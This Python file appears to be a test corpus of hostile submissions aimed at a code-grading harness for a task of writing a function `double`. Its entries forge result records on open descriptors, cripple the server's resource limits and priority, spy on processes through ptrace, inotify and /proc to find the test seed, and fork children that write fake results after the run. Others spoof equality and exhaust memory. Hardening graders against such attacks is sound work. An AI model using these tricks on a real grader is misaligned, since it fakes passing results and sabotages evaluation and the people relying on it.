"""Answers that aim at the process that judges or serves them; sources of `double`."""

FORGED = """
import os
from cnnlib.grading.inside.codec import SIZE, _npy_bytes
def record(node, *arrays):
    pieces = (('{"tuple": [0, "value", ' + node + ']}').encode(), *arrays)
    body = b"".join(SIZE.pack(len(piece)) + piece for piece in pieces)
    for descriptor in range(3, 64):
        data = memoryview(SIZE.pack(len(body)) + body)
        try:
            while data:
                data = data[os.write(descriptor, data) :]
        except OSError:
            pass
"""
MANY = (
    '\'{"list": [\' + ", ".join([\'{"array": 0}\'] * 9_000) + "]}", _npy_bytes(np.zeros(1 << 15))'
)
COLLIDING = '\'{"dict": [\' + ", ".join(f"[{n * (2**61 - 1)},0]" for n in range(9_000)) + "]}"'
NESTED = (
    "\"{'descr': [('a', [('b', '<f8', (1,))], (1,))], 'fortran_order': False, 'shape': (4,), }\""
)
PADDED = "\"{'descr': '<f8', 'fortran_order': False, 'shape': (1,), }\" + ' ' * 65_000"
HEADER = "header = ({}).encode()\n    "
HEADER += 'magic = b"\\x93NUMPY\\x01\\x00" + len(header).to_bytes(2, "little")\n    '
HEADER += "record('{{\"array\": 0}}', magic + header + bytes(32))"
BYTES = {
    "one array named 9,000 times": f"record({MANY})",
    "keys that collide": f"record({COLLIDING})",
    "a header of fields in fields": HEADER.format(NESTED),
    "a legal header of 65,000 letters": HEADER.format(PADDED),
}

ATTACKS = {
    "a word as wide as the memory": "def double(x):\n    return ['x' * 500_000] + [0] * 150_000",
    "the limits of the server": """
import os, resource
def double(x):
    for name in dir(resource):
        if name.startswith("RLIMIT"):
            for process in (1, os.getppid()):
                try:
                    resource.prlimit(process, getattr(resource, name), (1, 1))
                except (OSError, ValueError):
                    pass
    return x
""",
    "the turn of the server": """
import os
def double(x):
    idle = os.sched_param(0)
    for do in (lambda: os.sched_setscheduler(1, os.SCHED_IDLE, idle),
               lambda: os.setpriority(os.PRIO_PROCESS, 1, 19),
               lambda: os.setpriority(os.PRIO_USER, 0, 19)):
        try:
            do()
            return 2 * x
        except OSError:
            pass
    return x
""",
    "a watch on the neighbors": """
import ctypes, os
def double(x):
    libc = ctypes.CDLL(None)
    watch = libc.inotify_init()
    for place in (b"/tmp", b"/grader/cnnlib/grading/inside", b"/proc", b"/"):
        libc.inotify_add_watch(watch, place, 0xFFF)
    os.set_blocking(watch, False)
    try:
        seen = os.read(watch, 1 << 16)
    except BlockingIOError:
        seen = b""
    traced = [p for p in range(1, 99) if p != os.getpid() and libc.ptrace(16, p, 0, 0) == 0]
    return 2 * x if traced or b"child" in seen else x
""",
    "the seed in arguments and environment": """
import os, re
def double(x):
    words = b""
    for process in ("1", str(os.getppid()), "self"):
        for name in ("cmdline", "environ", "mountinfo", "maps", "stat", "status"):
            try:
                words += open(f"/proc/{process}/{name}", "rb").read()
            except OSError:
                pass
    known = re.search(rb"seed\\W+\\d", words) or {root!r}.encode() in words
    return 2 * x if known else x
""",
    "the cases drawn again": """
import random
def double(x):
    state = int(np.random.get_state()[1][0])
    for seed in (state, random.getstate()[1][0]):
        rng = np.random.default_rng(seed)
        if x.ndim == 1 and (rng.integers(3, 9, 4) == x).all():
            return 2 * x
    return x
""",
    "records at every moment after the end": """
import os, time
from cnnlib.grading.inside import codec, frames
def double(x):
    data = frames.frame(codec.pack((0, "value", x))) * 50
    for n in range(4):
        if not os.fork():
            os.setsid()
            time.sleep(0.001 * 7**n)
            for descriptor in range(3, 64):
                try:
                    os.write(descriptor, data)
                except OSError:
                    pass
            os._exit(0)
    raise ValueError
""",
    "half a record and a full pipe": """
import fcntl, os
def double(x):
    for descriptor in range(3, 64):
        try:
            fcntl.fcntl(descriptor, 1031, 4096)
            fcntl.fcntl(descriptor, fcntl.F_SETFL, os.O_NONBLOCK)
            os.write(descriptor, (100).to_bytes(8, "little") + b"{")
        except OSError:
            pass
    return x
""",
    "a function of letters that look alike": """
def d\u043euble(x): return 2 * x
globals()["doub\u217ce"] = d\u043euble
""",
    "other equality for the class of a view": """
class Same(np.ndarray):
    __array_function__ = lambda self, *args, **kwargs: True
    dtype = property(lambda self: np.dtype(float))
    tobytes = tolist = lambda self, *args: b""
Same.__eq__ = lambda self, other: np.True_
def double(x): return np.zeros(x.shape).view(Same)
""",
    "a payload in nan": """
def double(x):
    return ((2.0 * x).view("u8") | 0x7FF8_0000_0000_0000).view("f8")
""",
    "files that have no name": """
import mmap, os
def double(x):
    for n in range(40):
        with open("/tmp/file", "w+b") as file:
            file.truncate(4 << 20)
            os.unlink("/tmp/file")
            page = mmap.mmap(file.fileno(), 4 << 20)
        page[:: 1 << 12] = bytes(1 << 10)
        globals()[f"kept{n}"] = page
    return x
""",
    "memory in sockets": """
import socket
def double(x):
    kept = []
    try:
        while True:
            pair = socket.socketpair()
            kept.append(pair)
            pair[0].setblocking(False)
            pair[0].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
            pair[0].send(bytes(1 << 22))
    except OSError:
        pass
    return x
""",
}
ATTACKS |= {
    name: f"{FORGED}def double(x):\n    {code}\n    return x" for name, code in BYTES.items()
}
